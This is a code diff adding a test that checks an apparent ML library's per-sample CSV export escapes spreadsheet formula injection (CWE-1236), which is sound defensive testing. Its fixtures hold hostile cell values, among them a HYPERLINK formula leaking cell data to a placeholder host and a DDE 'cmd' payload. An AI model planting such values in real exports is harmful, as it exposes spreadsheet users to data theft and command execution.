@@ -173,3 +173,30 @@ def test_real_mlflow_server_over_http(tmp_path):
             os.killpg(proc.pid, signal.SIGKILL)
             proc.wait(timeout=10)
         log.close()
+
+
+def test_per_sample_csv_never_hands_a_spreadsheet_a_formula(tmp_path):
+    """Sample ids come from user data (npz ``ids``, file names): one that starts like a formula must reach
+    the auditor's spreadsheet as text (CWE-1236). Numbers, including negative ones, stay numbers."""
+    import csv as _csv
+
+    from robustlab.tracking import write_per_sample_csv
+
+    card = make_card(n=8)
+    hostile = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", " =1+1", "\uff1d1+1", "cat/ok_07.png"]
+    card.data["ids"] = hostile
+    card.checks[0].per_sample["note"] = ["=cmd|' /C calc'!A0"] + ["x"] * 7
+    card.checks[0].per_sample["margin"] = [-0.5, 0.25, -1, 0, 1, 2, 3, 4]
+    out = write_per_sample_csv(card, tmp_path / "per_sample.csv")
+    assert out is not None
+    rows = list(_csv.reader(out.open(encoding="utf-8")))
+    ids = [r[0] for r in rows[1:]]
+    assert ids[:7] == ["'" + h for h in hostile[:7]]
+    assert ids[7] == "cat/ok_07.png"
+    col = rows[0].index("clean/note")
+    assert rows[1][col] == "'=cmd|' /C calc'!A0" and rows[2][col] == "x"
+    margin = [r[rows[0].index("clean/margin")] for r in rows[1:]]
+    assert margin[:3] == ["-0.5", "0.25", "-1"]
+    for r in rows:
+        for cell in r:
+            assert not cell or cell[0] not in "=+@\t\r\uff1d" and not cell.lstrip().startswith("="), cell
